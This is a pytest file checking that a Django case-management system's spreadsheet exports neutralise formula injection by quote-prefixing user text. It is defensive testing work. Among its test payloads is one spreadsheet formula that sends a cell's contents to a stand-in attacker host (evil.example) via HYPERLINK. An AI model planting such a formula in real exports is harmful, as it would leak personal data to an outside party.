"""Formula injection (issue 11): every spreadsheet the project writes keeps user text as inert text.

The route tests plant a formula in every text column's source, download the export, open it with
openpyxl and find no formula cell, and every formula-like value carries the quote prefix.
"""

from __future__ import annotations

import datetime as dt
from io import BytesIO
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

from bredvid.audit.models import Action
from bredvid.audit.services import record
from bredvid.casework import services as casework_services
from bredvid.core.spreadsheets import Spreadsheet, is_formula_like
from bredvid.supporters.importer import COLUMNS, import_supporters, template_workbook
from bredvid.supporters.models import Supporter, SupporterProfile
from tests.casework.test_ivo import _granted
from tests.factories import PersonFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?d="&A3,"Visa")'
PAYLOADS = [EVIL, "+1", "-1+2", "@SUM(1)", "\t=1", "\r=1", " =1+1"]

#: Every route that answers with a workbook, and the test below that plants formulas in it.
EXPORT_ROUTES = {
    "staff:supporter_export": "test_register_export_keeps_planted_formulas_inert",
    "staff:audit_export": "test_audit_log_export_keeps_planted_formulas_inert",
    "staff:ivo_export": "test_ivo_export_keeps_planted_formulas_inert",
    "staff:supporter_import_template": "test_import_template_and_import_round_trip",
    "staff:payment_run_xlsx": "test_payment_summary_keeps_planted_formulas_inert",
}


def _cells(content: bytes) -> list[Any]:
    workbook = load_workbook(BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert(content: bytes, planted: list[str]) -> None:
    """No formula cell at all; each planted value is there as quote-prefixed text, as typed."""
    cells = _cells(content)
    assert cells
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    planted = [value.replace("\r", "\n") for value in planted]  # XML reads a lone CR as LF
    found: dict[str, int] = {}
    for cell in cells:
        if isinstance(cell.value, str) and is_formula_like(cell.value):
            assert cell.data_type == "s", cell.coordinate
            assert cell.quotePrefix, (
                f"{cell.coordinate} {cell.value!r} is formula-like without the quote prefix"
            )
        if isinstance(cell.value, str):
            for value in planted:
                if value in cell.value:
                    found[value] = found.get(value, 0) + 1
    assert set(found) == set(planted), f"planted values missing from the sheet: {set(planted) - set(found)}"


def _all_routes() -> set[str]:
    names: set[str] = set()

    def walk(patterns: list[Any], namespace: str) -> None:
        for p in patterns:
            if isinstance(p, URLResolver):
                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
            elif isinstance(p, URLPattern) and p.name:
                route = str(p.pattern)
                if "export" in route or "xlsx" in route:
                    names.add(namespace + p.name)

    walk(get_resolver().url_patterns, "")
    return names


def test_every_export_route_is_covered_by_a_planting_test() -> None:
    assert _all_routes() - {"admin:jsi18n"} == set(EXPORT_ROUTES)
    for test_name in EXPORT_ROUTES.values():
        assert test_name in globals()


def test_the_writer_neutralises_text_and_keeps_types() -> None:
    workbook = Spreadsheet()
    sheet = workbook.sheet("Blad", ["Rubrik"])
    sheet.append(
        [*PAYLOADS, "#N/A", "bad\x01char", 42, 1.5, dt.date(2026, 5, 4), True, None, "+46 70 123 45 67"]
    )
    cells = {c.column: c for c in load_workbook(BytesIO(workbook.to_bytes())).active[2]}
    for index, payload in enumerate(PAYLOADS, start=1):
        payload = payload.replace("\r", "\n")
        assert (cells[index].value, cells[index].data_type, cells[index].quotePrefix) == (payload, "s", True)
    n = len(PAYLOADS)
    assert (cells[n + 1].value, cells[n + 1].data_type) == ("#N/A", "s")  # text, not an error code
    assert cells[n + 2].value == "badchar"  # a control character XML cannot hold is dropped, no 500
    assert cells[n + 3].value == 42 and cells[n + 3].data_type == "n"
    assert cells[n + 4].value == 1.5
    assert cells[n + 5].value == dt.datetime(2026, 5, 4) and cells[n + 5].is_date
    assert cells[n + 6].value is True
    assert cells[n + 8].value == "+46 70 123 45 67" and cells[n + 8].quotePrefix


def test_register_export_keeps_planted_formulas_inert(world) -> None:  # type: ignore[no-untyped-def]
    for n, payload in enumerate(PAYLOADS):
        supporter = Supporter.objects.create(
            municipality=world.home,
            name=f"{payload}",
            status="approved",
            approved_supports=["familjehem"],
            area=payload,
            city=payload,
            phone=payload[:30],  # the field's length (PostgreSQL enforces it)
            email=payload,
        )
        SupporterProfile.objects.create(
            municipality=world.home,
            supporter=supporter,
            support_kind="familjehem",
            languages=payload + f" {n}",
        )
    response = world.client("family_care_officer").get(reverse("staff:supporter_export"))
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS)
    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert {row[0] for row in rows} == {p.replace("\r", "\n") for p in PAYLOADS}  # read back as typed


def test_audit_log_export_keeps_planted_formulas_inert(world) -> None:  # type: ignore[no-untyped-def]
    staff = world.tenant("caseworker")
    for payload in PAYLOADS:
        person = PersonFactory(municipality=world.home, first_name=payload, last_name=payload)
        record(action=Action.VIEW, tenant=staff, obj=person, person_id=person.pk, reason=payload)
        record(action=Action.VIEW, tenant=staff, object_type=payload[:60], object_id=payload[:60])
    evil_user = UserFactory(username=EVIL)
    record(action=Action.VIEW, actor=evil_user, municipality=world.home, object_type="x", reason="x")
    response = world.client("auditor").get(reverse("staff:audit_export"), {"action": "view"})
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS)


def test_ivo_export_keeps_planted_formulas_inert(world) -> None:  # type: ignore[no-untyped-def]
    caseworker = world.tenant("caseworker")
    for n, payload in enumerate(PAYLOADS):
        decision = _granted(world, f"{chr(ord('A') + n)}{payload}"[:20], dt.date(2026, 3, 10))
        casework_services.record_delay_reason(
            tenant=caseworker, intervention=decision.intervention, reason=payload
        )
    response = world.client("manager").get(reverse("staff:ivo_export", args=[2026, 3, "xlsx"]))
    assert response.status_code == 200
    assert_inert(response.content, PAYLOADS)
    sheet = load_workbook(BytesIO(response.content))["Ej verkställda"]
    first = next(sheet.iter_rows(min_row=2, max_row=2))
    assert first[2].is_date and first[2].value == dt.datetime(2026, 3, 10)  # dates stay dates


def test_import_template_and_import_round_trip(world, frozen_now) -> None:  # type: ignore[no-untyped-def]
    """The template has no formula; a name typed as a formula is imported as typed and exported inert."""
    frozen_now.move_to(timezone.localtime(), tick=False)  # the file carries the second it was written
    response = world.client("family_care_officer").get(reverse("staff:supporter_import_template"))
    assert response.content == template_workbook()
    assert [c.coordinate for c in _cells(response.content) if c.data_type == "f"] == []

    workbook = Spreadsheet()
    sheet = workbook.sheet("Uppdragstagare", COLUMNS)
    for n, payload in enumerate(PAYLOADS):
        values = {c: "" for c in COLUMNS} | {"Namn": payload, "Uppdrag": "kontaktfamilj", "Ort": f"Ort {n}"}
        sheet.append([values[c] for c in COLUMNS])
    tenant = world.tenant("family_care_officer")
    result = import_supporters(tenant=tenant, stream=BytesIO(workbook.to_bytes()), commit=True)
    assert result.committed, [str(e) for e in result.errors]
    # kept as typed, apart from the surrounding whitespace every imported cell loses
    assert sorted(Supporter.objects.values_list("name", flat=True)) == sorted(p.strip() for p in PAYLOADS)
    export = world.client("family_care_officer").get(reverse("staff:supporter_export"), {"status": ""})
    assert [c.coordinate for c in _cells(export.content) if c.data_type == "f"] == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_is_formula_like(payload: str) -> None:
    assert is_formula_like(payload)
    assert not is_formula_like("Familjen Ek") and not is_formula_like("070-123 45 67")


def test_no_workbook_is_written_outside_the_spreadsheets_module() -> None:
    """Payments, statistics and any later export must build their workbooks with Spreadsheet too."""
    from pathlib import Path

    import bredvid

    root = Path(bredvid.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py"
        and (
            "Workbook(" in (text := path.read_text())
            or "import Workbook" in text
            or "openpyxl.Workbook" in text
        )
    ]
    assert writers == []


def test_payment_summary_keeps_planted_formulas_inert(world) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt

    from django.test import Client

    from bredvid.payments import services as payments
    from tests.factories import MembershipFactory, UserFactory
    from tests.payments.conftest import decide, make_assignment, report

    decide(world)
    for n, payload in enumerate(PAYLOADS):
        report(make_assignment(world, name=payload or f"tom {n}"), dt.date(2026, 3, 4))
    run = payments.prepare_run(tenant=world.tenant("manager"), period=dt.date(2026, 3, 1)).run
    attester = UserFactory(username="attest.home")
    MembershipFactory(user=attester, unit=world.home_unit, role="manager")
    client = Client()
    client.force_login(attester)
    assert client.post(reverse("staff:payment_run_attest", args=[run.pk]), {}).status_code == 302
    response = client.get(reverse("staff:payment_run_xlsx", args=[run.pk]))
    assert response.status_code == 200
    assert_inert(response.content, [p for p in PAYLOADS if p])
